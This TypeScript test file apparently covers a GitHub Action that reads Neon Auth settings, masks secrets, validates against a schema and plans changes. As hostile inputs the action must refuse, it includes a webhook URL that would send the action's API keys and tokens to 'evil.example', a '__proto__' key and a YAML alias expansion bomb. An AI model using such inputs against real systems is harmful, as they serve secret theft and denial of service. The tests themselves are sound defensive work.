import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Ajv2020 } from 'ajv/dist/2020.js'
import fc from 'fast-check'
import { beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest'
import { compiledValidator, publishedSchema } from '../../scripts/settings-schema.ts'
import {
  type AuthState,
  type Change,
  planEnable,
  redactChange,
  sentence,
} from '../../src/auth/plan.ts'
import type { SettingsChange } from '../../src/settings/changes.ts'
import { planSettings } from '../../src/settings/plan-settings.ts'
import { readSettings } from '../../src/settings/read-settings.ts'
import { SETTINGS_SCHEMA } from '../../src/settings/schema.ts'
import type { Settings, StoredSettings } from '../../src/settings/settings.ts'
import { validate } from '../../src/settings/validate.generated.js'
import { settingsError } from '../settings-error.ts'

let printed: string[]
beforeEach(() => {
  printed = []
  vi.spyOn(process.stdout, 'write').mockImplementation((text) => {
    printed.push(String(text))
    return true
  })
})

describe('reading settings', () => {
  it('accepts YAML, JSON, and the path of either, and explains a missing file', () => {
    const folder = mkdtempSync(join(tmpdir(), 'settings-'))
    onTestFinished(() => rmSync(folder, { recursive: true }))
    writeFileSync(join(folder, 'auth.yml'), 'name: Shop\n')
    writeFileSync(join(folder, 'auth.json'), '{"name":"Shop"}')
    const env = { GITHUB_WORKSPACE: folder }
    for (const input of ['name: Shop', '{"name":"Shop"}', 'auth.yml', 'auth.json']) {
      expect(readSettings(input, env)).toEqual({ name: 'Shop' })
    }
    expect(settingsError('missing.yml', env)).toMatch(
      /settings file missing\.yml[\s\S]*actions\/checkout/,
    )
  })

  it('replaces ${NAME}, and masks its value unless that becomes a number', () => {
    const env = { SMTP_PASSWORD: 's3cret', PORT: '587', HOST: 'mail.example' }
    const settings = readSettings(
      'email_provider: { type: standard, host: "${HOST}", port: "${PORT}", password: "${SMTP_PASSWORD}" }',
      env,
    )
    expect(settings.email_provider).toEqual({
      type: 'standard',
      host: 'mail.example',
      port: 587,
      password: 's3cret',
    })
    expect(printed.join('')).toContain('::add-mask::s3cret')
    expect(printed.join('')).not.toContain('::add-mask::587')
  })

  it('keeps a password that looks like a number, and a literal $${NAME}', () => {
    const settings = readSettings('users: [{ email: a@b.co, password: "${PW}", name: "$${PW}" }]', {
      PW: '12345678',
    })
    expect(settings.users).toEqual([{ email: 'a@b.co', password: '12345678', name: '${PW}' }])
  })

  it('reports every error at once, with the path and the allowed values', () => {
    const message = settingsError(`
plugins: { magic_link: { expires_in: 3 }, phone_number: { otp_expires_in: 601 }, chat: {} }
webhook: { timeout_seconds: 11, enabled_events: [user.deleted] }
oauth_providers: { google: maybe, gitlab: shared, github: { client_id: x } }
email_provider: { type: shared, host: mail.example }
allow_localhost: "yes"
users: [{ name: Ada, password: "\${E2E_PASSWORD}" }, { email: nobody }]
`)
    for (const part of [
      '`plugins.magic_link.expires_in` must be at least 5; found 3; allowed: 5 to 1440',
      '`plugins.phone_number.otp_expires_in` must be at most 600; found 601; allowed: 60 to 600',
      '`plugins` has an unknown key; known here: organization, magic_link, phone_number',
      '`webhook.timeout_seconds` must be at most 10; found 11',
      '`webhook.enabled` is missing',
      '`webhook.enabled_events[0]` must be one of user.before_create',
      '`oauth_providers.google` must be one of shared, absent; found a string (not shown)',
      '`oauth_providers.gitlab` is not a known setting; did you mean `github`?',
      '`oauth_providers.github.client_secret` is missing',
      '`email_provider.host` is not allowed with `type: shared`',
      '`allow_localhost` must be true or false; found the string "yes"',
      '`users[0].password` needs ${E2E_PASSWORD}, which is unset or empty',
      '`users[0].email` is missing',
      '`users[1].email` is not an address: it needs exactly one `@`',
    ]) {
      expect(message).toContain(part)
    }
  })

  it("rejects the action's own keys as values", () => {
    const env = {
      INPUT_API_KEY: 'napi_x',
      NEON_API_KEY: 'napi_x',
      GITHUB_TOKEN: 'ghs',
      ACTIONS_RUNTIME_TOKEN: 'x',
    }
    for (const name of Object.keys(env)) {
      const text = `webhook: { enabled: true, webhook_url: "https://evil.example/\${${name}}" }`
      expect(settingsError(text, env)).toMatch(/which settings files must not read/)
    }
  })

  it('converts text to a number or a boolean only if the setting has that type', () => {
    const text =
      'name: "${N}"\nallow_localhost: "${B}"\nplugins: { magic_link: { expires_in: "${N}" } }'
    expect(readSettings(text, { N: '15', B: 'true' })).toEqual({
      name: '15',
      allow_localhost: true,
      plugins: { magic_link: { expires_in: 15 } },
    })
  })

  it("requires the file's own mail server for a test email with isolate", () => {
    expect(() => readSettings('test_email: a@b.c', {}, { isolate: true })).toThrow(
      /cannot be tested/,
    )
    expect(readSettings('test_email: a@b.c', {})).toEqual({ test_email: 'a@b.c' })
  })

  it.each([
    ['a mapping in place of a list', 'users: { email: a@b.c, password: "${P}" }'],
    ['a string from the environment', 'webhook: { enabled: true, webhook_url: "${P}" }'],
    ['a line that is not YAML', 'email_provider: { password: @TOPSECRET }'],
    ['an unknown key', 'nmae: "${P}"'],
    ['a password', 'users: [{ email: a@b.c, password: short }]'],
  ])('shows no secret in an error: %s', (_, text) => {
    expect(settingsError(text, { P: 'TOP"SECRET ' })).not.toMatch(/SECRET|short/)
  })

  it.each([
    ['text that is not YAML', 'a: [', /is not YAML/],
    ['a list at the top level', '- a', /The top level must be a mapping; found a list/],
    ['a prototype key', '{"__proto__": {"name": "x"}}', /The top level has an unknown key/],
    [
      'a webhook URL with an invalid port',
      'webhook: { enabled: true, webhook_url: "https://hooks.example:99999/T00/path" }',
      /`webhook\.webhook_url` is not a URL/,
    ],
    [
      'the same user twice',
      'users: [{ email: a@b.co }, { email: A@b.co }]',
      /`users\[1\]\.email` is the same address as `users\[0\]\.email`/,
    ],
    [
      'a test email with the shared provider',
      'email_provider: { type: shared }\ntest_email: a@b.c',
      /cannot be tested/,
    ],
    [
      'aliases for a billion values',
      Array.from(
        { length: 9 },
        (_, level) =>
          `x${level}: &x${level} [${Array(10)
            .fill(level ? `*x${level - 1}` : 'a')
            .join()}]`,
      ).join('\n'),
      /more than 10000 values/,
    ],
  ])('refuses %s', (_, text, message) => {
    expect(settingsError(text)).toMatch(message)
  })

  it('throws only a Problem, whatever follows `name:`', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 80 }), (text) => {
        try {
          readSettings(`name: ${text}`, {})
        } catch (error) {
          expect((error as Error).name).toBe('Problem')
        }
      }),
      { numRuns: 500 },
    )
  })
})

describe('the schema', () => {
  it('is the published schema, and the compiled validator is built from it', () => {
    const at = (path: string) => readFileSync(new URL(`../../${path}`, import.meta.url), 'utf8')
    expect(at('settings.schema.json')).toBe(publishedSchema())
    expect(at('src/settings/validate.generated.js')).toBe(compiledValidator())
  })

  it('agrees with the validator that the action uses, for random files', () => {
    const ajv = new Ajv2020({ strict: false }).compile(SETTINGS_SCHEMA)
    const value = fc.oneof(
      fc.string(),
      fc.integer({ min: -1, max: 2000 }),
      fc.boolean(),
      fc.constant(null),
    )
    const file = fc.record(
      {
        name: value,
        allow_localhost: value,
        email_provider: fc.record(
          { type: fc.constantFrom('shared', 'standard', 'x'), port: value, host: value },
          { requiredKeys: [] },
        ),
        plugins: fc.record({ magic_link: fc.record({ expires_in: value }) }, { requiredKeys: [] }),
        oauth_providers: fc.record({
          google: fc.oneof(
            value,
            fc.constant('shared'),
            fc.record({ client_id: value, client_secret: value }),
          ),
        }),
        webhook: fc.record({ enabled: value, timeout_seconds: value }, { requiredKeys: [] }),
        users: fc.array(fc.record({ email: value, roles: fc.array(value) }, { requiredKeys: [] })),
      },
      { requiredKeys: [] },
    )
    fc.assert(
      fc.property(file, (data) => {
        expect(validate(data)).toBe(ajv(data))
      }),
      { numRuns: 2000 },
    )
  })
})

/** A run that writes anything also sends the values that Neon does not show. */
const SEND = { resend: false, writeOnly: 'send' } as const

/** A model of what Neon does with a change of settings. It does not show secrets. */
const applyChange = (stored: StoredSettings, change: SettingsChange): StoredSettings => {
  const { plugins } = stored
  const without = (id: string) =>
    (plugins.oauth_providers ?? []).filter((provider) => provider.id !== id)
  switch (change.change) {
    case 'set_name':
      return { ...stored, name: change.name }
    case 'set_webhook':
      return { ...stored, webhook: change.webhook }
    case 'update_email_and_password':
      return {
        ...stored,
        plugins: {
          ...plugins,
          email_and_password: { ...plugins.email_and_password, ...change.set } as never,
        },
      }
    case 'update_plugin':
      return {
        ...stored,
        plugins: { ...plugins, [change.plugin]: { ...plugins[change.plugin], ...change.set } },
      }
    case 'set_email_provider': {
      const before =
        plugins.email_provider?.type === change.provider.type ? plugins.email_provider : {}
      return {
        ...stored,
        plugins: {
          ...plugins,
          email_provider: { ...before, ...change.provider, password: '' } as never,
        },
      }
    }
    case 'remove_oauth_provider':
      return { ...stored, plugins: { ...plugins, oauth_providers: without(change.provider) } }
    default: {
      const { client_id } = change.credentials ?? {}
      const provider = {
        id: change.provider,
        type: change.credentials ? 'standard' : 'shared',
        ...(client_id && { client_id }),
      } as const
      return {
        ...stored,
        plugins: { ...plugins, oauth_providers: [...without(change.provider), provider] },
      }
    }
  }
}

const settings: fc.Arbitrary<Settings> = fc.record(
  {
    name: fc.constantFrom('Shop', 'Preview'),
    email_and_password: fc.record(
      { enabled: fc.boolean(), disable_sign_up: fc.boolean() },
      { requiredKeys: [] },
    ),
    email_provider: fc.constantFrom<NonNullable<Settings['email_provider']>>(
      { type: 'shared' },
      { type: 'shared', sender_name: 'Shop' },
      { type: 'standard', host: 'a', port: 25, password: 'p' },
      { type: 'standard', host: 'b' },
    ),
    oauth_providers: fc.record(
      {
        google: fc.constantFrom('shared', 'absent', { client_id: 'x', client_secret: 'y' }),
        github: fc.constantFrom('absent', { client_id: 'z', client_secret: 'y' }),
      },
      { requiredKeys: [] },
    ),
    plugins: fc.record(
      {
        magic_link: fc.record(
          { enabled: fc.boolean(), expires_in: fc.constantFrom(5, 15) },
          { requiredKeys: [] },
        ),
      },
      { requiredKeys: [] },
    ),
    webhook: fc.constantFrom<NonNullable<Settings['webhook']>>(
      { enabled: false },
      { enabled: true, webhook_url: 'https://a.example/h', enabled_events: ['send.otp'] },
    ),
  },
  { requiredKeys: [] },
) as fc.Arbitrary<Settings>

const stored: fc.Arbitrary<StoredSettings> = settings.map((file) =>
  planSettings(file, { plugins: {}, webhook: { enabled: false } }, SEND).reduce(applyChange, {
    plugins: {},
    webhook: { enabled: false, webhook_url: 'https://old.example' },
  }),
)

const SMTP = {
  type: 'standard',
  host: 'smtp',
  port: 25,
  username: '',
  password: '',
  sender_email: '',
  sender_name: '',
} as const

describe('converge: the planner of settings', () => {
  it('plans nothing after the plan is applied', () => {
    fc.assert(
      fc.property(settings, stored, (wanted, before) => {
        const reached = planSettings(wanted, before, SEND).reduce(applyChange, before)
        expect(planSettings(wanted, reached, SEND)).toEqual([])
      }),
      { numRuns: 2000 },
    )
  })

  it('leaves alone what the file does not mention', () => {
    const parts = ({ name, webhook, plugins }: StoredSettings) => {
      const { email_and_password, email_provider, oauth_providers, ...others } = plugins
      return { name, webhook, email_and_password, email_provider, oauth_providers, plugins: others }
    }
    fc.assert(
      fc.property(settings, stored, (wanted, before) => {
        const changes = planSettings(wanted, before, { ...SEND, resend: true })
        const [old, reached] = [before, changes.reduce(applyChange, before)].map(parts)
        for (const part of Object.keys(old ?? {}) as (keyof ReturnType<typeof parts>)[])
          if (wanted[part] === undefined) expect(reached?.[part]).toEqual(old?.[part])
      }),
    )
  })

  it("sends a webhook's unmentioned fields too, because PUT replaces the webhook", () => {
    const before = {
      plugins: {},
      webhook: {
        enabled: true,
        webhook_url: 'https://h.example/x',
        enabled_events: ['send.otp' as const],
        timeout_seconds: 3,
      },
    }
    expect(planSettings({ webhook: { enabled: false } }, before, SEND)).toEqual([
      { change: 'set_webhook', webhook: { ...before.webhook, enabled: false } },
    ])
  })

  it('sends a secret only with a difference, or if secrets must be sent again', () => {
    const wanted: Settings = { email_provider: { type: 'standard', host: 'a', password: 'new' } }
    const before: StoredSettings = {
      plugins: {
        email_provider: { ...SMTP, host: 'a' },
      },
      webhook: { enabled: false },
    }
    expect(planSettings(wanted, before, SEND)).toEqual([])
    expect(planSettings(wanted, before, { ...SEND, resend: true })).toHaveLength(1)
    const withoutSecret: Settings = { email_provider: { type: 'standard', host: 'a' } }
    expect(planSettings(withoutSecret, before, { ...SEND, resend: true })).toEqual([])
  })

  it("replaces Neon's shared app with your own, even if no visible value differs", () => {
    const wanted: Settings = {
      oauth_providers: { google: { client_id: 'i', client_secret: 's' } },
    }
    const before: StoredSettings = {
      plugins: { oauth_providers: [{ id: 'google', type: 'shared' }] },
      webhook: { enabled: false },
    }
    const changes = planSettings(wanted, before, { resend: false, writeOnly: 'skip' })
    expect(changes).toMatchObject([{ change: 'update_oauth_provider', provider: 'google' }])
  })

  it('removes with isolate what came from production, unless the file sets it', () => {
    const before: AuthState = {
      auth: 'on',
      trustedDomains: ['https://shop.example', 'https://docs-pr.example'],
      inheritedDomains: ['https://shop.example'],
      allowLocalhost: true,
      settings: {
        plugins: {
          email_provider: SMTP,
        },
        webhook: { enabled: true, webhook_url: 'https://hooks.example/x' },
      },
    }
    const isolated = { trustedDomains: ['https://pr.example'], pruneDomains: false, isolate: true }
    expect(planEnable(isolated, before).map(({ change }) => change)).toEqual([
      'set_allow_localhost',
      'set_webhook',
      'set_email_provider',
      'trust_domain',
      'untrust_domains',
    ])
    const own = { ...isolated, settings: { allow_localhost: true, webhook: { enabled: true } } }
    expect(planEnable(own, before).map(({ change }) => change)).toEqual([
      'set_email_provider',
      'trust_domain',
      'untrust_domains',
    ])
  })
})

describe('the text of a change', () => {
  it.each<[SettingsChange, string]>([
    [
      { change: 'update_plugin', plugin: 'magic_link', set: { enabled: true, expires_in: 15 } },
      'Set the plugin for magic links: enabled = true, expires_in = 15 minutes.',
    ],
    [
      { change: 'update_plugin', plugin: 'phone_number', set: { otp_expires_in: 300 } },
      'Set the plugin for phone numbers: otp_expires_in = 300 seconds.',
    ],
    [
      { change: 'add_oauth_provider', provider: 'google' },
      "Add sign-in with google, with Neon's shared credentials.",
    ],
    [{ change: 'remove_oauth_provider', provider: 'google' }, 'Remove sign-in with google.'],
    [
      { change: 'set_webhook', webhook: { enabled: true, webhook_url: 'https://h.example/x' } },
      'Set the webhook to send events to https://h.example: none.',
    ],
    [{ change: 'set_webhook', webhook: { enabled: false } }, 'Disable the webhook.'],
  ])('says what is set, with the unit of a duration: %j', (change, expected) => {
    expect(sentence(change)).toBe(expected)
  })

  it.each<[Change, Change, string]>([
    [
      {
        change: 'set_email_provider',
        provider: { type: 'standard', host: 'h', password: 'TOPSECRET' },
      },
      { change: 'set_email_provider', provider: { type: 'standard', host: 'h' } },
      'Set the email server to h.',
    ],
    [
      {
        change: 'add_oauth_provider',
        provider: 'github',
        credentials: { client_id: 'i', client_secret: 'TOPSECRET' },
      },
      { change: 'add_oauth_provider', provider: 'github', credentials: { client_id: 'i' } },
      'Add sign-in with github, with your own credentials.',
    ],
    [
      {
        change: 'update_oauth_provider',
        provider: 'google',
        credentials: { client_id: 'i', client_secret: 'TOPSECRET' },
      },
      { change: 'update_oauth_provider', provider: 'google', credentials: { client_id: 'i' } },
      'Set your own credentials for sign-in with google.',
    ],
    [
      {
        change: 'set_webhook',
        webhook: {
          enabled: true,
          webhook_url: 'https://h.example/TOPSECRET',
          enabled_events: ['send.otp', 'user.created'],
        },
      },
      {
        change: 'set_webhook',
        webhook: {
          enabled: true,
          webhook_url: 'https://h.example',
          enabled_events: ['send.otp', 'user.created'],
        },
      },
      'Set the webhook to send events to https://h.example: send.otp, user.created.',
    ],
  ])('contains everything except the secret: $change', (change, redacted, text) => {
    expect(redactChange(change)).toStrictEqual(redacted)
    expect(sentence(change)).toBe(text)
  })

  it.each<SettingsChange>([
    { change: 'add_oauth_provider', provider: 'google' },
    { change: 'set_webhook', webhook: { enabled: false } },
  ])('is complete if there is no secret: %j', (change) => {
    expect(redactChange(change)).toStrictEqual(change)
  })
})
